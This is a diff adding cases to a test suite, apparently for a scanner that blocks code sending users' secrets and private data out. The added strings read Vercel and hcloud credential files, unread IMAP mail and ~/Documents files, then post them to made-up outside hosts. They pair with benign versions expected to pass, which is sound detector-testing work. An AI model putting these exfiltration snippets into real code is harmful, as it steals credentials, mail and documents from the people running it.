@@ -29,6 +29,16 @@ describe("any tool's login in the home folder, sent as data", () => {
     blocked(scanOf({ "check.jl": `using HTTP\n${read}HTTP.post("https://cfg-check.osci-tools.net/v1", [], cfg)\n` }));
     atMostMedium(scanOf({ "check.jl": `${read}println(length(split(cfg, "\\n")), " lines")\n` }));
   });
+  it("Deno reads the Vercel login from a template path under HOME and posts it; its token sent to Vercel's API is not", () => {
+    const read = 'const home = Deno.env.get("HOME");\nconst auth = JSON.parse(await Deno.readTextFile(`${home}/.config/vercel/auth.json`));\n';
+    blocked(scanOf({ "run.ts": `${read}await fetch("https://deploy-stats.vc-helpers.dev/a", { method: "POST", body: JSON.stringify(auth) });\n` }));
+    atMostMedium(scanOf({ "run.ts": `${read}const r = await fetch("https://api.vercel.com/v9/projects", { headers: { Authorization: \`Bearer \${auth.token}\` } });\nconsole.log((await r.json()).projects.length);\n` }));
+  });
+  it("PowerShell reads a CLI's credentials.json under APPDATA and posts it; reading it to check it exists is not", () => {
+    const read = '$p = Join-Path $env:APPDATA "hcloud\\credentials.json"\n';
+    blocked(scanOf({ "run.ps1": `${read}$c = Get-Content $p -Raw\nInvoke-WebRequest -Uri "https://cli-sync.cloudnotes.app/u" -Method Post -Body $c\n` }));
+    atMostMedium(scanOf({ "run.ps1": `${read}if (Test-Path $p) { "logged in" } else { "run hcloud context create first" }\n` }));
+  });
 });
 
 describe("secrets reaching sends in more languages and forms", () => {
@@ -78,6 +88,16 @@ describe("the user's private data in more apps, sent out", () => {
     const pack = "const { execSync } = require('child_process');\nconst root = execSync('git rev-parse --show-toplevel').toString().trim();\nconst tgz = execSync('git archive --format=tar.gz HEAD', { cwd: root });\n";
     blocked(scanOf({ "pack.js": `${pack}fetch('https://ctx-cache.repopack.dev/v1/blob', { method: 'PUT', body: tgz });\n` }));
     atMostMedium(scanOf({ "pack.js": `${pack}require('fs').writeFileSync('repo.tgz', tgz);\n` }));
+  });
+  it("mail fetched over IMAP and posted to a triage host; only counted, it is not", () => {
+    const read = 'import imaplib, os, requests\nm = imaplib.IMAP4_SSL("imap.fastmail.com"); m.login(os.environ["MAIL_USER"], os.environ["MAIL_PASS"])\nm.select("INBOX"); _, ids = m.search(None, "UNSEEN")\n';
+    blocked(scanOf({ "triage.py": `${read}msgs = [m.fetch(i, "(RFC822)")[1][0][1].decode() for i in ids[0].split()[-50:]]\nrequests.post("https://triage.inboxzen.app/v1", json={"m": msgs})\n` }));
+    atMostMedium(scanOf({ "triage.py": `${read}print(len(ids[0].split()), "unread")\n` }));
+  });
+  it("documents gathered from ~/Documents by a Ruby glob and uploaded one by one; counted by type, they are not", () => {
+    const glob = 'files = Dir.glob(File.expand_path("~/Documents/**/*.{docx,pdf}"))\n';
+    blocked(scanOf({ "index.rb": `require 'net/http'\n${glob}files.each { |f| Net::HTTP.post(URI("https://doc-index.fileorg.io/up"), File.binread(f)) }\n` }));
+    atMostMedium(scanOf({ "index.rb": `${glob}puts files.group_by { |f| File.extname(f) }.transform_values(&:size)\n` }));
   });
   it("meeting transcripts (.vtt) zipped in Go and uploaded; listed only, they are not", () => {
     const walk = 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"strings"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tvar buf bytes.Buffer\n\tfilepath.Walk(filepath.Join(home, "Documents", "Zoom"), func(p string, i os.FileInfo, e error) error {\n\t\tif strings.HasSuffix(p, ".vtt") {\n\t\t\tb, _ := os.ReadFile(p)\n\t\t\tbuf.Write(b)\n\t\t}\n\t\treturn nil\n\t})\n';
